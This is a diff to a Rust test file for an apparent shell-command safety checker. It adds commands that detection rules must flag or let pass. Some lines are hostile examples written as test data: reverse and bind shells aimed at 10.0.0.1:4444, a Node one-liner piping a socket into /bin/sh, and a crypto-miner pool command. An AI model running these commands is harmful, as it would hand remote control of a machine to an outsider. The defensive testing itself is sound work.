@@ -5837,6 +5837,14 @@ fn root_shells_handed_in_option_values_variables_and_pipes() {
             "sudo tee -a /etc/shells <<< /usr/bin/zsh",
             "sudo crictl exec -it 3f2a sh",
             "sudo k3s completion bash",
+            // `$SHELL` handed to a program that names files or patterns; `SHELL=` in front
+            // of one that starts no shell for its user.
+            "sudo ls -l $SHELL",
+            "sudo grep -q \"$SHELL\" /etc/shells",
+            "sudo SHELL=/bin/bash apt-get install -y jq",
+            "sudo usermod --shell=/usr/bin/zsh alice",
+            "sudo adduser --shell=/bin/zsh deploy",
+            "echo \"export SHELL=/bin/zsh\" | sudo tee -a /etc/profile.d/shell.sh",
         ],
     );
     allowed(&[
@@ -5884,6 +5892,17 @@ fn credential_files_by_more_names_globs_named_homes_and_process_environments() {
         "cat ~root/.bashrc",
         "cat ~/.cargo/config.toml",
         "ls ~/.local/share/",
+        // A file name that only begins like one, a template, a script beside the Wi-Fi
+        // settings, a glob over most of a folder.
+        "cat ~/.botorc",
+        "cat ~/.psql_history_notes.md",
+        "cat ~/.config/hub-settings.json",
+        "cat ~/.boto.example",
+        "cat ~postgres/.pgpass.sample",
+        "cat /etc/wpa_supplicant/ifupdown.sh",
+        "grep -r foo /etc/s*",
+        "wc -l /etc/[a-z]*",
+        "grep -l Port /etc/ssh/s*",
     ]);
 }
 
@@ -5898,7 +5917,9 @@ fn unknown_programs_on_the_network_wired_to_a_shell_or_run_after() {
             "zorp -c 10.0.0.1 4444 -e /bin/bash",
             "zorp tcp:10.0.0.1:4444 exec:/bin/sh",
             "zorp -l -p 4444 -e /bin/sh",
-            "zorp --listen=4444 --shell",
+            "zorp --listen=4444 --exec=/bin/sh",
+            // A bare shell after a one-letter `-e` counts when a host and port are named.
+            "zorp relay.example.net 4444 -e sh",
             "zorp -s relay.example.net:443 --cmd sh",
             "node -e 'require(\"net\").connect(4444,\"10.0.0.1\",function(){this.pipe(require(\"child_process\").spawn(\"/bin/sh\").stdin)})'",
         ],
@@ -5929,6 +5950,16 @@ fn unknown_programs_on_the_network_wired_to_a_shell_or_run_after() {
         "zorp https://example.com/data.json -o data.json",
         "zorp get https://example.com/api | jq .",
         "zorp https://example.com/data.json -o data.json; cat data.json",
+        // A shell named as configuration, not run on the socket; an address that is a
+        // setting, not what is fetched; a shell integration's own code.
+        "oh-my-posh init zsh --config https://example.com/theme.omp.json",
+        "fnm env --node-dist-mirror https://npmmirror.com/mirrors/node --shell bash",
+        "mongosh --host 10.0.0.3:27017 --shell init.js",
+        "cue export https://example.com/schema.cue -e sh",
+        "pm2 start server.js -p 3000 --interpreter bash",
+        "mybuilder --cache-url http://cache.internal:8080 -o bin/server && ./bin/server",
+        "mytool completion bash --server https://api.example.com | source /dev/stdin",
+        "mytool render https://example.com/tpl.j2 -o deploy.sh && bash -n deploy.sh",
     ]);
     // Without an address, what it prints is its own: piped into a shell, only warned.
     judged("remote_execution.pipe_to_shell", Warn, &["zorp completion bash | sh"]);
@@ -5981,6 +6012,10 @@ fn secret_holders_handed_by_pid_miners_and_more_startup_files() {
     spares(
         "secrets.process_memory",
         &[
+            "pmap $(pgrep firefox)",
+            "python3 monitor.py --pid $(pgrep -n chrome)",
+            "py-spy top --pid $(pgrep -f login-api)",
+            "prtstat $(pgrep -n sshd)",
             "sudo renice -n 5 -p $(pgrep sshd)",
             "python3 mon.py $(pgrep -f myserver)",
             "bash -c 'echo $(pidof sshd)'",
@@ -5994,7 +6029,11 @@ fn secret_holders_handed_by_pid_miners_and_more_startup_files() {
             "zorp -a rx -o stratum+tcp://pool.example.net:3333 -u w",
         ],
     );
-    allowed(&["grep xmrig /var/log/syslog", "man cpuminer"]);
+    allowed(&[
+        "grep xmrig /var/log/syslog",
+        "man cpuminer",
+        "grep -r 'stratum+tcp://' /var/log/",
+    ]);
     // `.bash_aliases` is sourced by the stock `.bashrc`.
     fires("persistence.startup_file", Block, &["zorp -o ~/.bash_aliases"]);
     spares("persistence.startup_file", &["cat ~/.bash_aliases"]);
